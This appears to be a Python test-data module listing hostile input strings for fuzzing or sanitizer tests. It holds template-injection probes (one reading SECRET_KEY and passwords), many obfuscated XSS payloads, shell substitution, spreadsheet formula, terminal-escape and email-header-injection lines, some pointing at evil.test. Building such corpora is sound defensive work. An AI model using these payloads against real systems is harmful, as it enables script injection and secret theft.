"""Hostile texts, one a line, `§` where a word of its own is put in, `␤` and `␍` for ends of lines: template syntax, other spellings, signs that are not seen."""

from __future__ import annotations

from typing import Final

SPELLINGS: Final = """
{{7*7}}§
{{ 7|add:42 }}§
{% now "Y" %}§
{% include "base.html" %}§
{% load static %}{% debug %}§
{{ settings.SECRET_KEY }}§
{{ request.user.password }}§
{{ ''.__class__.__mro__[1].__subclasses__() }}§
{%% if 1 %%}§{%% endif %%}
{# §
{{§
}}§
%}§
%(name)s§
%s%n%d§
%%§
{0.__class__}§
{name}§
{name!r:>99}§
#{7*7}§
<%= 7*7 %>§
*{7*7}§
@(7*7)§
[[7*7]]§
~{fragment}§
$(hit)§
`id`§
&lt;script&gt;hit()&lt;/script&gt;§
&amp;lt;img src=x onerror=hit()&amp;gt;§
&#60;script&#62;hit()&#60;/script&#62;§
&#x3c;img src=x onerror=hit()&#x3e;§
&#0000060;b id=§&#0000062;§
&ltscript&gthit()&lt/script&gt§
&LT;b&GT;§
&nbsp;&shy;§
&§;
&#0;§
&#x202e;§
%3Cscript%3Ehit()%3C/script%3E§
%253Cscript%253Ehit()§
+ADw-script+AD4-hit()§
\uff1cscript\uff1ehit()\uff1c/script\uff1e§
\ufe64img src=x onerror=hit()\ufe65§
\u02c2script\u02c3hit()§
\u2039img src=x onerror=hit()\u203a§
\u27e8script\u27e9hit()§
\uff02 onmouseover=hit() id=§
\uff07 onmouseover=hit() id=§
\u2032 onmouseover=hit() id=§
\u02ba onmouseover=hit() id=§
<\u017fcript>hit()</\u017fcript>§
<scr\u0131pt>hit()</scr\u0131pt>§
<\u212amg src=x onerror=hit()>§
<\u200bscript>hit()</script>§
<s\u00adcript>hit()</script>§
<img\u00a0src=x\u00a0onerror=hit()>§
<img\u3000src=x\u3000onerror=hit()>§
<img\u2028src=x\u2028onerror=hit()>§
<img\u0085src=x onerror=hit() id=§>
<img/src=x/onerror=hit()/id=§>
<img\x0csrc=x\x0conerror=hit()>§
<img␤src=x␤onerror=hit()>§
<img src=x onerror\x0b=hit() id=§>
<img src=x on\x1ferror=hit() id=§>
<img src=x:x onerror=\u2029hit() id=§>
<img ""\"><script>hit()</script>">§
<img src='x' onerror='hit()' id='§
<img src=`x` onerror=hit() id=§>
<img src=x onerror=&#104;it() id=§>
<img src=x onerror="&#x68;it()" id=§>
<img src=x onerror=\\u0068it() id=§>
<img src=x oNeRrOr=hit() id=§>
<img src=x onerror =hit() id=§>
<img src=x onerror=hit``>§
<img src=x onerror=hit?.()>§
<img src=x onerror=window['hit']()>§
<img src=x onerror=throw(onerror=hit)>§
<img/onerror=hit()/src=x>§
<img src onerror=hit()>§
<IMG SRC=X ONERROR=hit()>§
<svg onload=hit()//§
<svg/onload=hit()>§
<svg\tonload=hit()>§
<svg onload\r=\rhit()>§
<svg><![CDATA[><img src=x onerror=hit()>]]>§
\u202e>b/<§>"tpircs"=di b<
\u202e<b id=§>\u202c§
\u2066<b id=§>\u2069§
\u200f\u202bhtml<b id=§>§
\u061c<b id=§>§
\u2067\u2068§\u202e\u202d
\ufeff<b id=§>§
\ufffd<b id=§>\ufffd§
\u00c0\u00bcscript\u00c0\u00behit()§
\u00f0\u0080\u0080\u00bcscript>hit()§
\u00e2\u0080\u00ae<b id=§>§
\u00ef\u00bb\u00bf<b id=§>§
\U000e003c\U000e0062\U000e003e§
\U0001f3f4\U000e0067\U000e007f<b id=§>§
<b id=§>Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d</b>§
<\u0300b id=§>§
<b\u0338 id=§>§
\u0000<b id=§>§
<b\u0000 id=§>§
<scr\u0000ipt>hit()</script>§
\x1b]8;;javascript:hit()\x1b\\\\§\x1b]8;;\x1b\\\\
\x1b[31m<b id=§>§
=HYPERLINK("javascript:hit()","§")
@SUM(1)<b id=§>§
-1+1|cmd<b id=§>§
\tjavascript:hit()//§
mailto:a@b?subject=<b id=§>&bcc=x@evil.test§
https://evil.test/"onmouseover="hit()"id="§
https://evil.test/'onmouseover='hit()'id='§
https://evil.test/<b id=§>§
http://a@evil.test:80\\@b/§
[§](javascript:hit())
![§](x"onerror="hit())
**§**<img src=x onerror=hit()>
<§@evil.test>
<javascript:hit()>§
"§" <img src=x onerror=hit()>@evil.test
Subject: x␍␤Bcc: x@evil.test␍␤␍␤<b id=§>§
§␍␤Content-Type: text/html␍␤␍␤<script>hit()</script>
"""
